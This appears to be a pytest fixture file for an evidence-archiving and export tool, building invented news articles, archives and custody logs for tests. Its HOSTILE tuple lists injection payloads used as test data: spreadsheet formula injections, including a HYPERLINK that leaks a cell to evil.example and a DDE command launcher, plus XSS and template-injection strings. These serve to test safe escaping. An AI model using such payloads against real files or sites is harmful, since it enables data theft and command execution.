"""A small invented case with everything under it: archive, readings, offsets, custody log."""

import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest

from stemmata.capture.archive import Archive
from stemmata.export.evidence import Evidence
from stemmata.ids import id_of
from stemmata.ledger.custody import BEGINNING, entry_digest
from stemmata.model import (
    Article,
    Attribution,
    Capture,
    Captured,
    Entity,
    Exhibit,
    Given,
    Mention,
    OffsetRun,
    Offsets,
    Place,
    Reading,
    Sighting,
    Span,
    Unread,
)
from stemmata.pipeline.export import export
from stemmata.text import clean
from stemmata.text.offsets import locate

NOW = "2031-05-04T08:00:00Z"
UTF8 = Given(charset="utf-8")

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1, "open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "＝1＋1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)> & \"both\" 'quotes'",
    "javascript:alert(document.domain)",
    "{{ 7 * 7 }} {% raw %} _x0041_",
    "tab\tinside; comma, semicolon",
    "עברית \u202eהפוך\u202c and العربية",
    "𝒜stral 😀 signs",
    "a\x00null, \x1b[31m escape and \x7f",
    "a lone \ud800 surrogate, \ufffe and \uffff",
    "line\rbreak",
)


def reading_of(
    rows: Sequence[tuple[str, str]],
    *,
    capture: str = "cap:none",
    title: str | None = "=Title, as it stands",
    outlet: str | None = "Lowland Courier",
    published: str | None = "2031-05-03",
    path: str = "pages/one.txt",
    entities: Sequence[Entity] = (),
) -> Reading:
    """An article of lines "NAME said WORDS", each of them one attribution of `rows`."""
    text, attributions, mentions = "", [], []
    found = {entity.name: entity for entity in entities}
    for who, what in rows:
        source = Span(len(text), len(text) + len(who))
        cue = Span(source.end + 1, source.end + 5)
        content = Span(cue.end + 1, cue.end + 1 + len(what))
        text += f"{who} said {what}\n"
        attributions.append((source, cue, content, found.get(who)))
    article_id = Article.id_for(capture, text, outlet)
    for source, _, _, entity in attributions:
        if entity:
            id_ = id_of("men", article_id, source)
            mentions.append(Mention(id_, source, entity.type, entity.id))
    article = Article(article_id, capture, text, outlet, title, published=published)
    return Reading(
        path,
        article,
        "0" * 64,
        "sample 1",
        tuple(
            Attribution(
                Attribution.id_for(article_id, "source", (source,), (cue,), (content,)),
                "source",
                (source,),
                (cue,),
                (content,),
                "indirect",
                source_entity=entity.id if entity else None,
                source_kind="named_person" if entity else None,
                score=0.87654321,
            )
            for source, cue, content, entity in attributions
        ),
        tuple(mentions),
        tuple(entities),
    )


def captured_text(text: str, url: str | None = None) -> Captured:
    payload = text.encode("utf-8", "surrogatepass")
    capture = Capture.of(payload, "text/plain")
    return Captured("one.txt", capture, Sighting("one.txt", url), payload, UTF8)


class Shelf:
    """Fills an archive and gives the exhibits for it."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder / "archive"
        self.archive = Archive(self.folder, end=None, now=lambda: NOW)
        self.exhibits: list[Exhibit] = []

    def add_text(self, rows: Sequence[tuple[str, str]], **given: Any) -> None:
        """An article that is a plain text."""
        url = given.pop("url", None)
        text = reading_of(rows, **given).article.text
        item = captured_text(text, url)
        reading = reading_of(rows, capture=item.capture.id, **given)
        self._add(item, reading)

    def add_page(self, markup: bytes, url: str) -> None:
        """An article that is a page, all of it in the outlet's own voice or unread."""
        capture = Capture.of(markup, "text/html")
        sighting = Sighting("page.html", url, NOW)
        item = Captured("page.html", capture, sighting, markup, Given(outlet="Delta Wire"))
        article = clean(item, language="en")
        lines = [Span(*found.span()) for found in re.finditer(r"\S[^\n]*\S", article.text)]
        rows = tuple(
            Attribution(
                Attribution.id_for(article.id, "outlet", (), (), (line,)),
                "outlet",
                (),
                (),
                (line,),
                "outlet",
                score=0.5,
            )
            for line in lines[1:]
        )
        reading = Reading("page.html", article, "0" * 64, "sample 1", rows, (), (), (
            Unread(lines[0], "other"),
        ))  # fmt: skip
        self._add(item, reading)

    def _add(self, item: Captured, reading: Reading) -> None:
        place = self.archive.append(item)
        offsets = locate(item, reading.article)
        self.exhibits.append(Exhibit(reading, item.capture, place, (item.sighting,), offsets, NOW))

    def case(self) -> Evidence:
        self.archive.sync()
        log = log_of([x for e in self.exhibits for x in (e.capture.id, e.reading.article.id)])
        return Evidence(
            name="Case =1+1",
            generator="stemmata 0.0.0",
            exported_utc=NOW,
            exhibits=lambda: iter(self.exhibits),
            archive=self.folder,
            archive_end=self.archive.end,
            log=lambda: iter(log),
            head=str(log[-1]["digest"]),
        )


def log_of(subjects: Iterable[str]) -> list[dict[str, object]]:
    """A custody log with one entry for each subject."""
    log: list[dict[str, object]] = []
    previous = BEGINNING
    for seq, subject in enumerate(["case", *subjects], start=1):
        digest = entry_digest(seq, NOW, "kept", subject, "{}", previous)
        log.append(
            {"seq": seq, "at_utc": NOW, "act": "kept", "subject": subject, "detail": "{}",
             "previous": previous, "digest": digest}
        )  # fmt: skip
        previous = digest
    return log


def evidence_of(*readings: Reading, **changes: Any) -> Evidence:
    """A case without an archive."""
    exhibits = [
        Exhibit(
            reading,
            Capture(reading.article.capture, "f" * 64, "text/plain"),
            Place("000001.warc.gz", 10, 20, "e" * 64),
            (Sighting("pages/one.txt", "http://lowland.example/?a=1&b=<2>", NOW),),
            Offsets("utf-8", (OffsetRun(0, 1, 5, 6, 1),) if reading.article.text else ()),
            NOW,
        )
        for reading in readings
    ]
    case = Evidence(
        name="Case =1+1",
        generator="stemmata 0.0.0",
        exported_utc=NOW,
        exhibits=lambda: iter(exhibits),
    )
    return replace(case, **changes)


def exported(name: str, case: Evidence, *, redact: bool = False) -> bytes:
    out = BytesIO()
    export(name, case, out, redact=redact)
    return out.getvalue()


@pytest.fixture
def shelf(tmp_path: Path) -> Iterator[Shelf]:
    shelf = Shelf(tmp_path)
    yield shelf
    shelf.archive.close()


PAGE = """<html><head><title>Bridge &amp; river</title></head><body><article>
<h1>Bridge &amp; river: what   stands</h1>
<p>The caf&eacute; by the bridge \u2013 \u201cour last\u201d \u2013 was closed on <b>Monday</b> after the
   council\u2019s engineers had found cracks in its &#8220;northern&#8221; pier.</p>
<p>Trade has fallen by a third since then, and the ferry that was to replace the crossing has not left
its yard, where two of its four engines stand without their covers in the rain.</p>
</article></body></html>"""


@pytest.fixture
def real_case(shelf: Shelf) -> Evidence:
    """A case with an archive: a page in Windows-1252, one in UTF-8, a text of hostile words."""
    shelf.add_page(PAGE.encode("cp1252"), "http://delta.example/bridge?x=1&y=2")
    shelf.add_page(PAGE.replace("Monday", "Tuesday 😀").encode(), "http://delta.example/bridge")
    shelf.add_text([(f"Tarn {n}", words) for n, words in enumerate(HOSTILE)])
    shelf.archive.sync()
    return shelf.case()
